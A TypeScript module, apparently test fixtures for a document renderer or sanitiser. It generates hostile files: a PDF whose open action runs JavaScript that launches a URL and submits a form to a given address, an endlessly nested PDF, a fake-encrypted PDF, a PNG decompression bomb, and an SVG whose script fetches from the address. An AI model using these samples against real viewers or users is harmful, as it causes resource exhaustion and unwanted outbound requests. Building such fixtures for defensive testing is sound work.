/** Documents that nobody should have saved: each tries to do more than to be looked at. */
import { deflateSync } from 'node:zlib';

/** A PDF of these objects, the first of them its catalogue. */
export function pdfOfObjects(objects: readonly string[], trailer = ''): Buffer {
  let text = '%PDF-1.7\n';
  const starts = objects.map((object, index) => {
    const start = text.length;
    text += `${String(index + 1)} 0 obj\n${object}\nendobj\n`;
    return start;
  });
  const table = text.length;
  text += `xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n`;
  for (const start of starts) text += `${String(start).padStart(10, '0')} 00000 n \n`;
  text += `trailer\n<< /Size ${String(objects.length + 1)} /Root 1 0 R ${trailer} >>\nstartxref\n${String(table)}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const stream = (dictionary: string, content: string): string =>
  `<< ${dictionary} /Length ${String(content.length)} >>\nstream\n${content}\nendstream`;
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';

/** Runs a script when it is opened, fetches, and sends a form, if somebody lets it. */
export function scriptedPdf(address: string): Buffer {
  const script = `globalThis.ran = true; app.alert('ran'); app.launchURL('${address}/launched'); this.submitForm('${address}/sent');`;
  return pdfOfObjects([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> /Names << /JavaScript << /Names [(a) 5 0 R] >> >> >>',
    pages,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R /AA << /O 5 0 R >> >>',
    stream('', '0 0 1 rg 50 50 200 300 re f'),
    `<< /S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`,
  ]);
}

/** Each of its forms draws the next ten times over: it would be done in some thousand years. */
export function endlessPdf(): Buffer {
  const depth = 14;
  const forms = Array.from({ length: depth }, (_, level) => {
    const next = level + 1 < depth ? `/F ${String(6 + level)} 0 R` : '';
    const content = level + 1 < depth ? '/F Do '.repeat(10) : '0 0 m 10 10 l S';
    return stream(
      `/Type /XObject /Subtype /Form /BBox [0 0 300 400] /Resources << /XObject << ${next} >> >>`,
      content,
    );
  });
  return pdfOfObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    pages,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >> >>',
    stream('', '/F Do'),
    ...forms,
  ]);
}

/** Says that it is encrypted, with a password that nobody knows. */
export function lockedPdf(): Buffer {
  const noise = (seed: number): string =>
    `<${Array.from({ length: 32 }, (_, at) => ((at * 37 + seed) % 256).toString(16).padStart(2, '0')).join('')}>`;
  return pdfOfObjects(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      pages,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] >>',
      `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O ${noise(1)} /U ${noise(7)} >>`,
    ],
    `/Encrypt 4 0 R /ID [${noise(3)} ${noise(3)}]`,
  );
}

function chunk(name: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const head = Buffer.alloc(4);
  head.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc(body));
  return Buffer.concat([head, body, sum]);
}

function crc(bytes: Buffer): number {
  let value = ~0;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit += 1) value = (value >>> 1) ^ (value & 1 ? 0xedb88320 : 0);
  }
  return ~value >>> 0;
}

/** 30 000 pixels wide and high in some kilobytes: 3.6 GB once it is unpacked. */
export function bombPng(): Buffer {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(30_000, 0);
  size.writeUInt32BE(30_000, 4);
  size.set([8, 6], 8);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', size),
    chunk('IDAT', deflateSync(Buffer.alloc(1_000_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const scriptedSvg = (address: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="globalThis.ran = true">
<script>globalThis.ran = true; fetch('${address}/svg');</script><image href="${address}/image.png"/></svg>`;

/** A photograph that was taken with the camera on its side. */
export function turned(jpeg: Uint8Array): Buffer {
  const exif = Buffer.from(
    '457869660000' + '4d4d002a00000008' + '0001' + '0112' + '0003' + '00000001' + '00060000' + '00000000',
    'hex',
  );
  const head = Buffer.from([0xff, 0xe1, 0, 0]);
  head.writeUInt16BE(exif.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, exif, jpeg.subarray(2)]);
}
